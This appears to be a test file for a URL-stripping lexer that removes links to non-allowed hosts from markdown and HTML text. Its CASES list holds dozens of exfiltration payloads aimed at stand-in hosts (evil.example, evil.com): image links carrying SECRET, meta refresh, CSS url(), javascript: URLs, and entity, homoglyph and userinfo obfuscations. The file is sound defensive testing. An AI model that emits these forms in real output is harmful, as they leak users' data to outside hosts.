import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { limits } from '../kernel/limits.ts'
import { linkHosts } from './hosts.ts'
import { LinkLexer, REMOVED, withoutLinks } from './links.ts'

const hosts = linkHosts(['intranet.example.com', '*.docs.example.com'])
const through = (text: string): string => withoutLinks(text, hosts)

/** The same text in pieces; and how far behind it ever was. */
function inPieces(pieces: readonly string[], escapes = false): { out: string; held: number } {
  const lexer = new LinkLexer(hosts, escapes)
  let held = 0
  let length = 0
  for (const piece of pieces) {
    length += piece.length
    held = Math.max(held, length - lexer.push(piece))
  }
  expect(lexer.settle()).toBe(length)
  const text = pieces.join('')
  let out = ''
  let from = 0
  for (let edit = lexer.edits.first; edit !== undefined; edit = lexer.edits.first) {
    expect(edit.start).toBeGreaterThanOrEqual(from)
    expect(edit.end).toBeGreaterThan(edit.start)
    out += text.slice(from, edit.start) + edit.text
    from = edit.end
    lexer.edits.take()
  }
  return { out: out + text.slice(from), held }
}

/** `~` stands for what is taken out. */
const CASES: readonly (readonly [string, string])[] = [
  ['[a](https://evil.example/SECRET)', '[a](https:~)'],
  ['![a](https://evil.example/x?q=SECRET "t")', '![a](https:~ "t")'],
  ['[a]( <https://evil.example/SECRET x> )', '[a]( <https:~ x> )'],
  ['[a][r]\n\n[r]: https://evil.example/SECRET\nb', '[a][r]\n\n[r]: https:~\nb'],
  ['[r]: //evil.example/SECRET', '[r]: ~'],
  ['<https://evil.example/SECRET>', '<https:~>'],
  ['see https://evil.example/SECRET now', 'see https:~ now'],
  ['see HTTPS://EVIL.example/SECRET now', 'see HTTPS:~ now'],
  ['see www.evil.example/SECRET now', 'see www~ now'],
  ['see evil.com/SECRET now', 'see evil~ now'],
  ['see evil.com?q=SECRET now', 'see evil~ now'],
  ['see evil.com:8080/SECRET now', 'see evil~ now'],
  ['U0VDUkVUU0VDUkVUU0VDUkVU.evil.com', 'U0VDUkVUU0VDUkVUU0VDUkVU~'],
  ['<img src="https://evil.example/SECRET">', '<img src="https:~">'],
  ['<img src=//evil.example/SECRET>', '<img src=~>'],
  ['<img src="//evil/SECRET">', '<img src="~">'],
  ["<a href='/\\evil.example/SECRET'>", "<a href='~'>"],
  ['<a href="\\\\evil.example\\SECRET">', '<a href="~">'],
  ['<a href="http:evil.example/SECRET">', '<a href="http:~">'],
  ['<a href="https:/evil.example/SECRET">', '<a href="https:~">'],
  ['<a href="ht\ntps://evil.example/SECRET">', '<a href="ht\ntps:~">'],
  ['<a href="https:\n//evil.example/SECRET">', '<a href="https:~">'],
  ['<a href="h&#116;tps&#58;//evil.example/SECRET">', '<a href="h&#116;tps&#58;~">'],
  ['<a href="https&colon;&sol;&sol;evil.example/SECRET">', '<a href="https&colon;~">'],
  ['<a href="https&#0000000000000000058;//evil.example/S">', '<a href="https~">'],
  ['<style>x{background:url(https://evil.example/S)}', '<style>x{background:url(https:~)}'],
  ['<p style="background:url(//evil.example/S)">', '<p style="background:url(~)">'],
  [
    '<meta http-equiv="refresh" content="0;url=https://evil.example/S">',
    '<meta http-equiv="refresh" content="0;url=https:~">',
  ],
  [
    '<img srcset="https://evil.example/a 1x, //evil.example/b 2x">',
    '<img srcset="https:~ 1x, ~ 2x">',
  ],
  ['![a](data:image/svg+xml,SECRET)', '![a](data~)'],
  [
    '<meta http-equiv=refresh content="0;//evil.example/S">',
    '<meta http-equiv=refresh content="0;~">',
  ],
  ['content="0;&#47;&#47;evil/S"', 'content="0;~"'],
  ['srcdoc="&lt;img src&equals;/&#47;evil.example/S&gt;"', 'srcdoc="&lt;img src&equals;~"'],
  ['<a href="java\tscript:alert(1)">', '<a href="java\tscript~)">'],
  ['<a href="&#1;java&Tab;script:alert(1)">', '<a href="&#1;java&Tab;script~)">'],
  ['[a](ht\ntps:evil/S)', '[a](ht\ntps:~)'],
  ['[a](sip:S@evil.example) b', '[a](sip~) b'],
  ['[a]( <whatsapp:send?text=S>) b', '[a]( <whatsapp~>) b'],
  ['[a]: msteams:/l/x?S b', '[a]: msteams~ b'],
  ["<a href = 'ms-word:ofe|u|S'>", "<a href = 'ms-word~|u|S'>"],
  ['<skype:S?call> b', '<skype~> b'],
  ['{//evil.example/S}', '{~}'],
  ['a;//evil.example/S b', 'a;~ b'],
  ['evil.finance/S b', 'evil~ b'],
  ['evil.digital?q=S b', 'evil~ b'],
  ['x.evil.agency/S b', 'x~ b'],
  ['evil.bar:8080/S b', 'evil~ b'],
  ['<a href="javascript:fetch(1)">', '<a href="javascript~)">'],
  ['[a](mailto:x@evil.example?body=SECRET)', '[a](mailto~)'],
  ['[a](https://intranet.example.com@evil.example/S)', '[a](https:~)'],
  ['[a](https://intranet.example.com:pw@evil.example/S)', '[a](https:~)'],
  ['[a](https://intranet.example.com\\@evil.example/S)', '[a](https:~)'],
  ['[a](https://intranet.example.com%2eevil.example/S)', '[a](https:~)'],
  ['[a](https://intranet.example.com.evil.example/S)', '[a](https:~)'],
  ['[a](https://intranet。example.com/S)', '[a](https:~)'],
  ['[a](https://evil。example/S)', '[a](https:~)'],
  ['[a](https:⁄⁄evil.example/S)', '[a](https:~)'],
  ['[a](https：//evil.example/S)', '[a](https：~)'],
  ['[a](https:/\u200b/evil.example/S)', '[a](https:~)'],
  ['[a](ht\u200btps:evil.example/S)', '[a](ht\u200btps:~)'],
  ['[a](https\\://evil.example/S)', '[a](https\\:~)'],
  ['[a](https:\\/\\/evil.example/S)', '[a](https:~)'],
  ['[a](https://xn--intrnet-9wa.example.com/S)', '[a](https:~)'],
  ['[a](https://intrаnet.example.com/S)', '[a](https:~)'],
  ['[a](https://[::1]/S)', '[a](https:~]/S)'],
  ['[a](https://1.2.3.4/S)', '[a](https:~)'],
  ['s3://bucket/S', 's3:~'],
  [`[a](https://${'a'.repeat(80)}.example/S)`, '[a](https:~)'],
  [`[a](https:${'\u200b'.repeat(80)}//evil.example/S)`, '[a](https:~)'],
  ['a https://docs.example.com/S', 'a https:~'],
  ['[a](https://intranet.example.com,@evil.example/S)', '[a](https:~)'],
  ['[a](https://intranet.example.com,.evil.example/S)', '[a](https:~)'],
  ['[a](https://intranet.example.com).evil.example/S)', '[a](https:~).evil.example/S)'],
  ['[a](https://intranet.example.com;x:y@evil.example/S)', '[a](https:~)'],
  ['a https://intranet.example.com!&commat;evil.example/S b', 'a https:~ b'],
  [
    '<a href="https://intranet.example.com\n.evil.example/S">',
    '<a href="https:~\n.evil.example/S">',
  ],
  ['<a href=" https://intranet.example.com\t@evil.example/S">', '<a href=" https:~\t@evil~">'],
  ['content="0;url=https://intranet.example.com\n.x/S"', 'content="0;url=https:~\n.x/S"'],
  ['<a href=" https:\n/evil.example/S">', '<a href=" https:~">'],
  ['<a href=" //evil/S">', '<a href=" ~">'],
  [
    '<p style="background:url(https\\3a //evil.example/S)">',
    '<p style="background:url(https\\3a ~)">',
  ],
  ['url("\\2f\\2f evil\\2e example\\2f S")', 'url("~ evil\\2e example\\2f S")'],
]
const STAYS: readonly string[] = [
  'See https://intranet.example.com/a/b.c?d=e#f for more.',
  'See https://intranet.example.com.',
  'See (https://intranet.example.com), https://intranet.example.com; or https://intranet.example.com:8443!',
  '[a](https://intranet.example.com)\nb *https://intranet.example.com*, `https://intranet.example.com`.',
  'See https://intranet.example.com\nand more [https://intranet.example.com][1].',
  'See https://intranet.example.com: there.',
  '[a](https://a.docs.example.com/x_(y)) and <https://b.docs.example.com:8443/z>',
  '<img src="//intranet.example.com/x.png">',
  'intranet.example.com/x and x.docs.example.com?a=b',
  'Note: this is fine. e.g. 12:30, 3/4, and/or, 1.2.3/4, U.S./U.K. offices; Node.js/Express.',
  'Here is the data:\n\nName: x. And the file:\n1. one',
  'C:\\Users\\ada and \\\\hline and \\n and a\\b',
  'if (a.length/2 > b) { return x.y.z } // done\n//todo\nstd::vector<int> v; a //b',
  'Use `://` or "//" or https:// as a prefix.',
  'src/pipeline/links.ts:12, ./a/b.ts, a//b/c.txt, x?.y ?? z',
  'AT&T, R&D; &amp; &nbsp; 5 &lt; 6',
  'です。次はA/Bです。Straße 5: https',
  `です。${'次の文は長い'.repeat(20)}。注意：${'これは'.repeat(30)}`,
  '[a](links.ts:12) [b](C:\\x) {"href":"x"} `a:b` std::vector<std::string> f(x: Int, y:Int)',
  '<xs:element name="a"> [a]: b, note:c, (e.g. d:e)',
  'x = a ? b : c; {"k":"v","n":[1,2]}',
]

describe('INVARIANT (only a plain address passes)', () => {
  test.each(CASES)('%s', (text, expected) => {
    const wanted = expected.replaceAll('~', REMOVED)
    expect(through(text)).toBe(wanted)
  })
})
test.each(STAYS)('stays: %s', (text) => {
  expect(through(text)).toBe(text)
})

test('INVARIANT (rewritten alike however cut): the same comes out of any pieces, little held back', () => {
  const texts = [...CASES.map(([text]) => text), ...STAYS].map((text) => `a ${text} b`)
  for (const text of texts) {
    const whole = inPieces([text]).out
    for (let cut = 1; cut < text.length; cut++) {
      const { out, held } = inPieces([text.slice(0, cut), text.slice(cut)])
      expect(out).toBe(whole)
      expect(held).toBeLessThanOrEqual(limits.linkWindowChars)
    }
    expect(inPieces(text.split('')).out).toBe(whole)
  }
})

const UNITS =
  'https|:|/|/|\\|.|evil|com| |&|#58;|colon;|\u200b|\n|(|)|"|=|<|。|intranet.example.com|@|\\u003a|a|data|www'
    .split('|')
    .concat('\ud83d', '\udd17', '&#00000000000')

test('INVARIANT (rewritten alike however cut): of any text', () => {
  const unit = fc.constantFrom(...UNITS)
  fc.assert(
    fc.property(
      fc.array(unit, { maxLength: 60 }),
      fc.array(fc.nat(200), { maxLength: 20 }),
      fc.boolean(),
      (units, cuts, escapes) => {
        const text = units.join('')
        const at = [...new Set(cuts.map((cut) => cut % (text.length + 1)))].toSorted(
          (a, b) => a - b,
        )
        const pieces = [0, ...at].map((from, index) => text.slice(from, at[index] ?? text.length))
        const whole = inPieces([text], escapes)
        const cut = inPieces(pieces, escapes)
        expect(cut.out).toBe(whole.out)
        expect(cut.held).toBeLessThanOrEqual(limits.linkWindowChars)
      },
    ),
    { numRuns: 500 },
  )
})

test('linear on any input', () => {
  for (const unit of [
    ':',
    '/',
    '.',
    'a.',
    '&',
    '&#',
    '\\',
    'a:/',
    '//a',
    '\u200b',
    'a.b/',
    'https://a ',
  ]) {
    const text = unit.repeat(Math.ceil(100_000 / unit.length))
    const began = process.cpuUsage().user
    through(text)
    expect(process.cpuUsage().user - began).toBeLessThan(4_000_000)
  }
})

describe('blocks', () => {
  const turned = (...blocks: readonly string[]): string[] => {
    const lexer = new LinkLexer(hosts, false)
    const ends: number[] = []
    blocks.forEach((text, at) => {
      if (at > 0) lexer.turn(at)
      lexer.push(text)
      ends.push(lexer.settle())
    })
    const text = blocks.join('')
    const out = blocks.map(() => '')
    let edits = ''
    let from = 0
    const until = (to: number): void => {
      for (; from < to; from++) {
        const block = ends.findIndex((end) => from < end)
        out[block] += text.charAt(from)
      }
    }
    for (let edit = lexer.edits.first; edit !== undefined; edit = lexer.edits.first) {
      until(edit.start)
      out[ends.findIndex((end) => from < end)] += edit.text
      from = edit.end
      edits += edit.text
      lexer.edits.take()
    }
    until(text.length)
    return out
  }
  test.each([
    [['[a](https:', '//evil.example/SECRET) b'], `[a](https:|${REMOVED}) b`],
    [['[a](https:/', '/evil.example/SECRET) b'], `[a](https:/|${REMOVED}) b`],
    [['[a](https://ev', 'il.example/SECRET) b'], `[a](https:${REMOVED}|${REMOVED}) b`],
    [
      ['a https://intranet.example.com', '.evil.com/SECRET b'],
      `a https://intranet.example.com|${REMOVED} b`,
    ],
    [['a https://intranet.example.com/x', 'y b'], 'a https://intranet.example.com/x|y b'],
    [['Sure:', 'here'], 'Sure:|here'],
    [['One.', 'Two. three'], 'One.|Two. three'],
    [['x', '//evil.example/S'], `x|${REMOVED}`],
  ])('%j', (blocks, expected) => {
    expect(turned(...blocks).join('|')).toBe(expected)
  })
})
